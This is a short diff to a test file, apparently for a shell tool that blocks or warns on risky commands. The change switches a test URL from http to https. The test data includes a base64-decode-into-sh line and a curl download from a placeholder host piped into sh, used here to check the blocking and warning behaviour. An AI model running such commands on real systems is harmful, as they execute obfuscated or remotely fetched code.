@@ -253,7 +253,7 @@ def test_background_job_output_while_idle(shell):
 
 
 BLOCKED = "echo aGVsbG8= | base64 -d | sh"  # decoded text run by a shell: a block rule
-WARNED = "curl -fsS http://example.invalid/i.sh | sh"  # download piped into a shell: warn
+WARNED = "curl -fsS https://example.invalid/i.sh | sh"  # download piped into a shell: warn
 
 
 def test_block_shows_refused_and_runs_nothing(shell):
@@ -271,7 +271,7 @@ def test_warn_cancel_puts_line_back_then_yes_runs(shell):
     t.send_line(f"{WARNED}; echo ran-it")
     t.wait_for(r"\[y\]es / \[t\]rust / cancel\?")
     t.send_keys("n")
-    t.wait_for(r"^\[~\]\$ curl -fsS http://example\.invalid/i\.sh \| sh; echo ran-it$")
+    t.wait_for(r"^\[~\]\$ curl -fsS https://example\.invalid/i\.sh \| sh; echo ran-it$")
     assert "\nran-it" not in t.screen()
     t.send_keys("Enter")
     t.wait_for(lambda screen: screen.count("[y]es / [t]rust / cancel?") == 2)
